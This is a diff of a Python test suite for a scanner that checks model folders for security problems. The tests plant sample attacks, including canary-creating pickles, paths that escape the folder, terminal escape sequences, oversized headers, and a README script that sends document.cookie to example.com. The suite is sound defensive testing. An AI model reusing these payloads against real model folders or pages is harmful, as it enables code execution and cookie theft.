@@ -1,4 +1,4 @@
-"""Folders made to harm: each is named, nothing of it runs, nothing outside it is read, nothing of it steers a terminal."""
+"""Malicious folders: each attack is reported, executes nothing, reads nothing outside the folder and controls no terminal."""
 
 import json
 import os
@@ -19,7 +19,7 @@ ESCAPE = "\x1b]0;owned\x07\x1b[2J"
 
 
 def attack(*rows: str, says: str):
-    """Register a way to arm a folder, the rows that fail for it, and what the first of them has to say."""
+    """Register a function that prepares a folder, the checks that fail for it, and a pattern of the first reason."""
 
     def register(function):
         ATTACKS[function.__name__] = (function, rows, says)
@@ -29,7 +29,7 @@ def attack(*rows: str, says: str):
 
 
 class Touch:
-    """Unpickled, it makes the canary."""
+    """Creates the canary when it is unpickled."""
 
     def __init__(self, canary: Path):
         self.canary = str(canary)
@@ -39,14 +39,14 @@ class Touch:
 
 
 def touching(canary: Path) -> str:
-    """Python that makes the canary when it is imported."""
+    """Python code that creates the canary when it is imported."""
     return f"import pathlib\npathlib.Path({str(canary)!r}).touch()\n"
 
 
 # -- pickles ----------------------------------------------------------------------------------------------------------
 
 
-@attack("no pickle", "files known", says=r"pickles or archives: training_args\.bin; to open one is to run what it says")
+@attack("no pickle", "files known", says=r"pickles or archives: training_args\.bin; loading a pickle can execute code")
 def a_pickle_beside_the_weights(folder: Broken):
     folder.write("training_args.bin", pickle.dumps(Touch(folder.canary)))
 
@@ -72,17 +72,17 @@ def a_pickle_dressed_as_safetensors(folder: Broken):
     torch.save(Touch(folder.canary), folder.path / "model.safetensors")
 
 
-# -- ways out of the folder -------------------------------------------------------------------------------------------
+# -- references to files outside the folder ----------------------------------------------------------------------------
 
 
-@attack("auto_map", says=r"is '.*outside/evil\.Model', not a module of this folder")
+@attack("auto_map", says=r"is '.*outside/evil\.Model', not of the form module.Class")
 def an_auto_map_with_an_absolute_path(folder: Broken):
     (folder.outside / "evil.py").write_text(touching(folder.canary))
     entries = folder.get("config.json")["auto_map"]
     folder.json("config.json", auto_map={**entries, "AutoConfig": f"{folder.outside}/evil.Model"})
 
 
-@attack("auto_map", says=r"is '\.\./outside/evil\.Model', not a module of this folder")
+@attack("auto_map", says=r"is '\.\./outside/evil\.Model', not of the form module.Class")
 def an_auto_map_that_climbs(folder: Broken):
     (folder.outside / "evil.py").write_text(touching(folder.canary))
     entries = folder.get("config.json")["auto_map"]
@@ -106,7 +106,7 @@ def a_pipeline_that_climbs(folder: Broken):
     folder.json("config.json", custom_pipelines={"write": {"impl": "../outside/evil.Pipeline", "pt": []}})
 
 
-@attack("weights index", "tensors", says=r"leads out of the folder: \.\./outside/model\.safetensors")
+@attack("weights index", "tensors", says=r"names files outside the folder: \.\./outside/model\.safetensors")
 def an_index_that_climbs(folder: Broken):
     (folder.path / "model.safetensors").rename(folder.outside / "model.safetensors")
     folder.write(
@@ -116,7 +116,7 @@ def an_index_that_climbs(folder: Broken):
     folder.write("model-00001-of-00001.safetensors", (8 + 2).to_bytes(8, "little") + b"{}        ")
 
 
-@attack("weights index", says=r"leads out of the folder: /.*/outside/model\.safetensors")
+@attack("weights index", says=r"names files outside the folder: /.*/outside/model\.safetensors")
 def an_index_with_an_absolute_path(folder: Broken):
     places = dict.fromkeys(weight_names(folder), "model.safetensors")
     places["model.norm.weight"] = str(folder.outside / "model.safetensors")
@@ -147,7 +147,7 @@ def a_pipe_that_would_wait_for_ever(folder: Broken):
     os.mkfifo(folder.path / "chat_template.jinja")
 
 
-@attack("settings stay inside", "files known", says=r"adapter_config\.json takes its model from '.*outside'")
+@attack("settings stay inside", "files known", says=r"adapter_config\.json refers to the base model '.*outside'")
 def an_adapter_of_a_model_elsewhere(folder: Broken):
     folder.write("adapter_config.json", json.dumps({"base_model_name_or_path": str(folder.outside)}))
 
@@ -179,35 +179,35 @@ def weights_of(header: bytes, values: int = 64) -> bytes:
     return len(header).to_bytes(8, "little") + header + b"\0" * values
 
 
-@attack("weights header", says=r"claims a header of 9,223,372,036,854,775,808 bytes")
+@attack("weights header", says=r"has a header of 9,223,372,036,854,775,808 bytes")
 def a_header_longer_than_the_disk(folder: Broken):
     folder.write("model.safetensors", (1 << 63).to_bytes(8, "little") + b"{}" * 40)
 
 
-@attack("weights header", says=r"the header is not sound JSON: maximum recursion depth")
+@attack("weights header", says=r"the header is not valid JSON: maximum recursion depth")
 def a_header_that_nests_without_end(folder: Broken):
     folder.write("model.safetensors", weights_of(b'{"a":' * 200_000 + b"1" + b"}" * 200_000))
 
 
-@attack("weights header", says=r"claims \[1099511627776, 1048576\] values of F32 in 64 bytes")
+@attack("weights header", says=r"has shape \[1099511627776, 1048576\] and dtype F32 in 64 bytes")
 def a_tensor_larger_than_the_memory(folder: Broken):
     claim = {"model.norm.weight": {"dtype": "F32", "shape": [1 << 40, 1 << 20], "data_offsets": [0, 64]}}
     folder.write("model.safetensors", weights_of(json.dumps(claim).encode()))
 
 
-@attack("weights header", says="b does not begin where the one before it ends")
+@attack("weights header", says="b does not start at the end of the previous tensor")
 def tensors_that_overlap(folder: Broken):
     claim = {name: {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]} for name in "ab"}
     folder.write("model.safetensors", weights_of(json.dumps(claim).encode()))
 
 
-@attack("weights header", says="the key 'a' is there twice")
+@attack("weights header", says="duplicate key 'a'")
 def a_tensor_that_is_there_twice(folder: Broken):
     one = b'"a":{"dtype":"F32","shape":[16],"data_offsets":[0,64]}'
     folder.write("model.safetensors", weights_of(b"{" + one + b"," + one + b"}"))
 
 
-@attack("files readable", says=r"config\.json is not sound JSON: maximum recursion depth")
+@attack("files readable", says=r"config\.json is not valid JSON: maximum recursion depth")
 def a_config_that_nests_without_end(folder: Broken):
     folder.write("config.json", '{"a":' * 200_000 + "1" + "}" * 200_000)
 
@@ -217,7 +217,7 @@ def a_config_of_a_billion_layers(folder: Broken):
     folder.json("config.json", num_hidden_layers=10**12)
 
 
-@attack("fingerprint", says="minigpt.json knows the tokenizer")
+@attack("fingerprint", says="minigpt.json has ")
 def a_tokenizer_that_pads_to_the_size_of_the_memory(folder: Broken):
     padding = {"strategy": {"Fixed": 1 << 40}, "direction": "Left", "pad_to_multiple_of": None}
     folder.json("tokenizer.json", padding={**padding, "pad_id": 1, "pad_type_id": 0, "pad_token": "<|pad|>"})
@@ -231,7 +231,7 @@ def a_file_name_that_steers_the_terminal(folder: Broken):
     folder.write(f"{ESCAPE}.md", "text")
 
 
-@attack("tensors", says=re.escape(r"not asked for: \x1b]0;owned\x07\x1b[2J"))
+@attack("tensors", says=re.escape(r"unexpected: \x1b]0;owned\x07\x1b[2J"))
 def a_tensor_name_that_steers_the_terminal(folder: Broken):
     folder.tensors(lambda kept: kept.update({ESCAPE: torch.zeros(1)}))
 
@@ -241,17 +241,17 @@ def an_architecture_that_steers_the_terminal(folder: Broken):
     folder.json("config.json", architectures=[ESCAPE])
 
 
-@attack("card inert", says="README.md has markup that acts: <script")
+@attack("card inert", says="README.md has active markup: <script")
 def a_script_in_the_card(folder: Broken):
     folder.append("README.md", "\n<script>fetch('https://example.com/' + document.cookie)</script>\n")
 
 
-@attack("card inert", says="README.md has markup that acts: javascript:")
+@attack("card inert", says="README.md has active markup: javascript:")
 def a_link_that_runs(folder: Broken):
     folder.append("README.md", "\n[the paper](javascript:alert(1))\n")
 
 
-@attack("card inert", says="README.md has markup that acts: <iframe")
+@attack("card inert", says="README.md has active markup: <iframe")
 def markup_behind_a_fence_that_is_closed(folder: Broken):
     folder.append("README.md", "\n```text\na sample\n```\n<iframe src=https://example.com></iframe>\n```text\n```\n")
 
@@ -284,7 +284,7 @@ def a_card_that_is_too_long(folder: Broken):
     folder.append("README.md", " " * 300_000)
 
 
-@attack("code", says=r"configuration_minigpt\.py: transformers takes a line of it for an import of `\.x`")
+@attack("code", says=r"configuration_minigpt\.py: transformers parses one of its lines as an import of `\.x`")
 def code_with_a_page_of_nothing(folder: Broken):
     folder.append("configuration_minigpt.py", "\n" * 500_000 + '"""\nfrom .x import y\n"""\n')
 
@@ -311,7 +311,7 @@ def a_chat_template_that_includes_a_file(folder: Broken):
     folder.write("chat_template.jinja", f"{{% include {str(folder.outside / 'secret')!r} %}}")
 
 
-@attack("code", says=r"configuration_minigpt\.py.*turns the direction of text \(\\u202e\)")
+@attack("code", says=r"configuration_minigpt\.py.*changes the direction of text \(\\u202e\)")
 def code_that_reads_one_way_and_runs_another(folder: Broken):
     folder.append("configuration_minigpt.py", "\n# \u202e )(tixe\n")
 
@@ -325,7 +325,7 @@ def test_an_attack_is_named_and_nothing_happens(name, broken, watch):
     arm(broken)
     stops_loading = set(expected) & set(doctor.BEFORE_LOADING)
     watch.opened = []
-    # Where a row that stops the loading fails, the whole examination is asked for, its code trusted.
+    # If a check fails that prevents loading, run all checks, with trusted code.
     found = doctor.examine(broken.path, trust_remote_code=True) if stops_loading else doctor.examine_files(broken.path)
     opened, watch.opened = watch.opened, None
     failed = doctor.failures(found)
@@ -351,12 +351,12 @@ def test_attacks_enough_are_planted():
 def test_the_table_is_printed_with_escapes(broken, capsys):
     folder = broken
     a_file_name_that_steers_the_terminal(folder)
-    weights_that_are_a_link(folder)  # so that nothing is loaded
+    weights_that_are_a_link(folder)  # prevents loading
     assert main(["doctor", str(folder.path)]) == 1
     out = capsys.readouterr().out
     assert "\x1b" not in out
     assert re.search(r"^fail  file names .*\\x1b\]0;owned.*; delete or rename these files$", out, re.MULTILINE)
-    assert re.search(r"^\d+ pass, 4 fail, \d+ do not apply \(-\)$", out, re.MULTILINE)
+    assert re.search(r"^\d+ pass, 4 fail, \d+ not applicable \(-\)$", out, re.MULTILINE)
     assert main(["doctor", str(folder.path), "--json"]) == 1
     told = json.loads(capsys.readouterr().out)
     assert told["failed"] == 4
